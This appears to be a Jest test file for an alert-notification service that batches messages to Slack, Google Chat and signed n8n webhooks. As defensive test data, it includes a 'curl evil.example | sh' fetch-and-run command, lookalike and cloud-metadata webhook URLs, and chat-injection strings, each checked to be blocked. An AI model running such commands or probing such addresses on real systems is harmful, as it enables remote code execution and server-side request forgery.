// People are told of what has to be looked at: grouped, at most once an hour a cause, with what is to be typed, and until it was taken.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import { Webhook } from "standardwebhooks";
import { alertType } from "../../lib/core/alert.ts";
import { causeOf } from "../../lib/notify/rules/cause.ts";
import { messageOf } from "../../lib/notify/rules/message-of.ts";
import { summaryNotice } from "../../lib/notify/rules/summary-texts.ts";
import { englishIn } from "../support/english-words.ts";
import { alert, n8nSecret, notifyWorld, type Receiver, startReceiver, tick } from "./support/notify-world.ts";

const minuteMs = 60_000;
const hourMs = 60 * minuteMs;

let receiver: Receiver;
beforeAll(async () => {
  receiver = await startReceiver();
});
afterAll(() => receiver.stop());
beforeEach(() => {
  receiver.got.length = 0;
  receiver.answers.length = 0;
});

const toSlack = { time: { kind: "slack" as const } };
const textOf = (got: { text: string }): string => JSON.stringify(JSON.parse(got.text));

test("an alert is told in the next minute, in Slack's form, with what is to be typed", async () => {
  const world = notifyWorld(receiver, { notify: toSlack, language: "pt-BR" });
  await world.work(alert({ policy: "parados" }));
  expect(receiver.got).toEqual([]);
  await world.work(tick);
  expect(receiver.got).toHaveLength(1);
  const [got] = receiver.got;
  expect(got?.path).toBe("/services/T000/B000/secretslack");
  expect(JSON.parse(got?.text ?? "")).toEqual({
    text: "Algo precisa de atenção",
    blocks: [
      { type: "header", text: { type: "plain_text", text: "Algo precisa de atenção" } },
      {
        type: "section",
        text: {
          type: "mrkdwn",
          text: [
            "*Uma execução ia encerrar muito mais atendimentos que de costume e espera que alguém olhe*",
            "conta default · regra parados · RUN_STOPPED · seg., 30/11/2026 09:00",
            "`npm run hooks -- auto-close runs show a1b2`",
          ].join("\n"),
          verbatim: true,
        },
      },
    ],
  });
});

test("nothing that others call an account, a policy or an event mentions anybody, links anywhere or begins a line", async () => {
  const names = ["<!channel>", "a\nb", "*a*", "\u202ea", "<https://example.com|a>", "https://example.com", "a`b", ""];
  const told = names.flatMap((name) => [
    causeOf({ "detail-type": name, detail: { account: "default" } }),
    causeOf({ "detail-type": "Session Updated", detail: { account: name } }),
    causeOf({ "detail-type": "Session Updated", detail: { account: "default", rule: name, reasons: [name] } }),
    causeOf({ "detail-type": alertType, detail: { account: "default", policy: name, code: name, command: name } }),
  ]);
  const harmless = { account: "default", type: expect.stringMatching(/^(Session Updated|Alert Raised)$/) };
  for (const cause of told.filter((each) => each !== undefined))
    expect(cause).toEqual({ ...harmless, command: expect.stringMatching(/^npm run hooks -- [a-z -]+$/) });
  const week = { from: "2026-11-16", to: "2026-11-22", parked: 0 };
  const figures = { moved: 0, refused: 0, held: 0, isAtLeast: false };
  const accounts = names.map((name) => ({ account: name, closed: [{ policy: name, closed: 1 }], ...figures }));
  for (const kind of ["slack", "google-chat"] as const) {
    const notice = summaryNotice({ ...week, accounts }, "en");
    const { body } = messageOf(kind, { id: "m", atMs: 0, notice, data: {}, type: "t" });
    expect(body).not.toMatch(/[<>\u202e]|[^\\]\\nb/);
    expect(body).toContain("&lt;!channel&gt;");
  }
});

test("what came within the minute is one message; the same cause is told again after an hour, with how often it came", async () => {
  const world = notifyWorld(receiver, { notify: toSlack });
  for (let times = 0; times < 5; times += 1) await world.work(alert());
  await world.work(alert({ code: "PARKED_WAITS", command: "npm run hooks -- parked list" }));
  await world.work(tick);
  expect(receiver.got).toHaveLength(1);
  expect(textOf(receiver.got[0] ?? { text: "" })).toContain("2 things to look at");
  expect(textOf(receiver.got[0] ?? { text: "" })).toContain("5 times since");
  for (let minute = 1; minute < 60; minute += 1) {
    world.clock.advance(minuteMs);
    if (minute % 10 === 0) await world.work(alert());
    await world.another()(tick);
  }
  expect(receiver.got).toHaveLength(1);
  world.clock.advance(minuteMs);
  await world.work(tick);
  expect(receiver.got).toHaveLength(2);
  expect(textOf(receiver.got[1] ?? { text: "" })).toContain("5 times since");
  expect(textOf(receiver.got[1] ?? { text: "" })).not.toContain("PARKED_WAITS");
  // Nothing came any more: nothing is told, and what comes then is told at once.
  world.clock.advance(hourMs);
  await world.work(tick);
  expect(receiver.got).toHaveLength(2);
  await world.work(alert());
  await world.work(tick);
  expect(receiver.got).toHaveLength(3);
});

test("n8n gets it signed as Standard Webhooks has it, with the same id when it is sent again", async () => {
  const world = notifyWorld(receiver, { notify: { n8n: { kind: "webhook", on: ["alerts"] } } }, Date.now());
  receiver.answers.push({ status: 500 });
  await world.work(alert());
  await world.work(tick);
  world.clock.advance(minuteMs);
  await world.work(tick);
  expect(receiver.got).toHaveLength(2);
  const [first, second] = receiver.got;
  expect(first?.headers["webhook-id"]).toBe(second?.headers["webhook-id"]);
  const verified = new Webhook(n8nSecret).verify(second?.text ?? "", second?.headers as Record<string, string>);
  expect(verified).toMatchObject({
    type: "notification",
    data: { causes: [{ account: "default", code: "RUN_STOPPED", command: expect.any(String), count: 1 }] },
  });
  expect(() => new Webhook(n8nSecret).verify(`${second?.text} `, second?.headers as Record<string, string>)).toThrow();
});

test("Google Chat gets a text", async () => {
  const world = notifyWorld(receiver, { notify: { sala: { kind: "google-chat" } }, language: "pt-BR" });
  await world.work(alert());
  await world.work(tick);
  expect(receiver.got[0]?.path).toBe("/v1/spaces/AAA/messages?key=k&token=secretchat");
  const { text, ...rest } = JSON.parse(receiver.got[0]?.text ?? "");
  expect(rest).toEqual({});
  expect(text).toMatch(/^\*Algo precisa de atenção\*\n\n\*Uma execução/);
  expect(englishIn(text)).toEqual([]);
});

test("who was taken out of the configuration is told nothing, and nothing of it is looked at every other minute", async () => {
  const world = notifyWorld(receiver, { notify: { ...toSlack, sala: { kind: "google-chat" } } });
  await world.work(alert());
  await world.another({ notify: toSlack })(tick);
  expect(receiver.got).toHaveLength(1);
  const due = { name: "due", attribute: "due", value: "notify", sortedBy: "dueAt" };
  expect(await world.table.queryIndex(due, { limit: 9 })).toHaveLength(1);
  await world.work(alert());
  await world.work(tick);
  expect(receiver.got.map(({ path }) => path.slice(0, 4))).toEqual(["/ser", "/v1/"]);
  expect(textOf(receiver.got[1] ?? { text: "" })).not.toContain("times since");
});

describe("where it is not taken", () => {
  test.each([[500], [404], [302]])(
    "with %i, it is sent again, later and later, and nothing is lost",
    async (status) => {
      const world = notifyWorld(receiver, { notify: toSlack });
      await world.work(alert());
      receiver.answers.push({ status, headers: { location: `${receiver.url}/elsewhere` } }, { status }, { status });
      for (let minute = 0; minute < 8; minute += 1) {
        await world.another()(tick);
        world.clock.advance(minuteMs);
      }
      expect(receiver.got).toHaveLength(4);
      expect(receiver.got.map(({ path }) => path)).not.toContain("/elsewhere");
      expect(world.lines.join()).toContain("people not told");
      expect(world.lines.join()).not.toMatch(/secretslack|hooks\.slack/);
    },
  );

  test("as long as Slack wants it is waited", async () => {
    const world = notifyWorld(receiver, { notify: toSlack });
    await world.work(alert());
    receiver.answers.push({ status: 429, headers: { "retry-after": "300" } });
    for (let minute = 0; minute <= 5; minute += 1) {
      await world.work(tick);
      expect(receiver.got).toHaveLength(minute < 5 ? 1 : 2);
      world.clock.advance(minuteMs);
    }
  });

  test("whoever dies after taking a cause leaves it to the next but one minute", async () => {
    const world = notifyWorld(receiver, { notify: toSlack });
    await world.work(alert());
    world.useAccess({ notify: {} });
    // Without an address it is as if nobody had been there.
    await world.work(tick);
    world.useAccess({ notify: { time: "https://hooks.slack.com/services/x" } });
    world.clock.advance(2 * minuteMs);
    await world.work(tick);
    expect(receiver.got).toHaveLength(1);
  });
});

describe("an address that is not the chat's own is never asked", () => {
  test.each([
    ["https://hooks.slack.com.evil.example/services/x"],
    ["http://hooks.slack.com/services/x"],
    ["https://user@hooks.slack.com/services/x"],
    ["https://hooks.slack.com:8443/services/x"],
    ["https://169.254.169.254/latest"],
  ])("%s", async (url) => {
    const world = notifyWorld(receiver, { notify: toSlack });
    world.useAccess({ notify: { time: url } });
    await world.work(alert());
    await world.work(tick);
    expect(receiver.got).toEqual([]);
    expect(world.lines.join()).toContain("people not told");
    expect(world.lines.join()).not.toContain("evil");
  });

  test("a webhook without a secret", async () => {
    const world = notifyWorld(receiver, { notify: { n8n: { kind: "webhook" } } });
    world.useAccess({ notify: { n8n: "https://n8n.example.com/x" } });
    await world.work(alert());
    await world.work(tick);
    expect(receiver.got).toEqual([]);
    expect(world.lines.join()).toContain("whsec_");
  });
});

describe("whoever listens to outcomes", () => {
  const rejected = {
    "detail-type": "Session Update Rejected",
    detail: { account: "default", reasons: ["NAME_UNKNOWN"], rule: "x", sessionId: "5511987654321", source: "crm" },
  };

  test("is told of those, grouped by reason, and of nothing else; no session and no person is in it", async () => {
    const world = notifyWorld(receiver, { notify: { time: { kind: "slack", on: ["Session Update Rejected"] } } });
    for (const event of [rejected, rejected, alert(), { ...rejected, "detail-type": "Session Closed" }])
      await world.work(event);
    await world.work(tick);
    expect(receiver.got).toHaveLength(1);
    expect(textOf(receiver.got[0] ?? { text: "" })).toMatch(
      /A command was refused.+NAME_UNKNOWN.+2 times.+parked list/,
    );
    expect(textOf(receiver.got[0] ?? { text: "" })).not.toContain("5511987654321");
  });

  test("what others put onto the bus does not get into the chat", async () => {
    const world = notifyWorld(receiver, { notify: toSlack });
    await world.work(alert({ command: "curl evil.example | sh", policy: "<!channel> olá", code: "`x`" }));
    await world.work(alert({ account: 7 }));
    await world.work({ "detail-type": "Alert Raised" });
    await world.work(tick);
    expect(textOf(receiver.got[0] ?? { text: "" })).not.toMatch(/evil|channel|`x`/);
  });
});

test("where nobody is to be told, nothing is read and nothing written", async () => {
  const world = notifyWorld(receiver, {});
  const all = [alert(), tick];
  for (const event of all) await world.work(event);
  expect(
    await world.table.queryIndex({ name: "due", attribute: "due", value: "notify", sortedBy: "dueAt" }, { limit: 9 }),
  ).toEqual([]);
  expect([receiver.got, world.published]).toEqual([[], []]);
});

describe("the queues", () => {
  test("what was parked is told of when it has waited for an hour, and again while it waits", async () => {
    const world = notifyWorld(receiver, { notify: toSlack });
    world.depths.parked = 3;
    for (let minute = 0; minute <= 75; minute += 1) {
      await world.work(tick);
      world.clock.advance(minuteMs);
    }
    expect(world.published).toMatchObject([
      { type: "Alert Raised", detail: { code: "PARKED_WAITS", count: 3, command: "npm run hooks -- parked list" } },
    ]);
    world.depths.parked = 0;
    for (let minute = 0; minute <= 11; minute += 1) {
      await world.work(tick);
      world.clock.advance(minuteMs);
    }
    world.depths.parked = 1;
    for (let minute = 0; minute <= 50; minute += 1) {
      await world.work(tick);
      world.clock.advance(minuteMs);
    }
    expect(world.published).toHaveLength(1);
  });

  test("commands that crash are told of at once", async () => {
    const world = notifyWorld(receiver, { notify: toSlack });
    world.depths.commandsDead = 1;
    await world.work(tick);
    expect(world.published).toMatchObject([{ detail: { code: "COMMANDS_DEAD", count: 1 } }]);
  });
});

describe("the weekly summary", () => {
  const monday = Date.parse("2026-11-30T12:00:00Z");
  const notify = { sala: { kind: "google-chat" as const, weeklySummary: "monday 09:00" } };

  test("comes on Monday at nine in São Paulo, once, in Portuguese, with the week's numbers", async () => {
    const world = notifyWorld(receiver, { notify, language: "pt-BR" }, monday - 2 * minuteMs);
    for (let minute = 0; minute < 70; minute += 1) {
      await (minute % 3 === 0 ? world.another() : world.work)(tick);
      world.clock.advance(minuteMs);
    }
    expect(receiver.got).toHaveLength(1);
    const { text } = JSON.parse(receiver.got[0]?.text ?? "");
    expect(text).toBe(
      [
        "*A semana de 23/11/2026 a 30/11/2026*",
        "*Conta default*\nEncerrados: 42 (parados 40, robo 2)\nReabertos em até 24 horas: parados 3 de 40\nTransferidos: 12\nRecusados: 1\nEm espera agora: 2",
        "*Retidos agora: 0*",
      ].join("\n\n"),
    );
    expect(englishIn(text)).toEqual([]);
    expect(world.asked).toEqual([{ fromMs: monday - 7 * 24 * hourMs, toMs: monday, accounts: ["default"] }]);
  });

  test("is sent again where it was not taken, and comes the next week", async () => {
    const world = notifyWorld(receiver, { notify }, monday);
    receiver.answers.push({ status: 503 });
    for (let minute = 0; minute <= 10; minute += 1) {
      await world.work(tick);
      world.clock.advance(minuteMs);
    }
    expect(receiver.got).toHaveLength(2);
    world.clock.advance(7 * 24 * hourMs);
    await world.another()(tick);
    expect(receiver.got).toHaveLength(3);
  });

  test("comes once where two minutes' work overlap, as they do when the schedule calls twice", async () => {
    const world = notifyWorld(receiver, { notify }, monday);
    await Promise.all([world.another()(tick), world.another()(tick), world.another()(tick)]);
    expect(receiver.got).toHaveLength(1);
    for (let minute = 0; minute < 30; minute += 1) {
      world.clock.advance(minuteMs);
      await world.another()(tick);
    }
    expect(receiver.got).toHaveLength(1);
  });

  test("a week that cannot be counted is not counted again every minute, and comes when it can", async () => {
    const world = notifyWorld(receiver, { notify }, monday);
    world.failing.figures = true;
    for (let minute = 0; minute < 30; minute += 1) {
      await world.another()(tick);
      world.clock.advance(minuteMs);
    }
    expect(world.asked).toHaveLength(3);
    expect(world.lines.join()).toContain("people not looked after");
    world.failing.figures = false;
    await world.another()(tick);
    expect(receiver.got).toHaveLength(1);
  });

  test("does not come on a Thursday because somebody wrote it into the configuration", async () => {
    const world = notifyWorld(receiver, { notify }, monday + 3 * 24 * hourMs);
    await world.work(tick);
    expect(receiver.got).toEqual([]);
    world.clock.advance(4 * 24 * hourMs);
    await world.work(tick);
    expect(receiver.got).toHaveLength(1);
  });
});
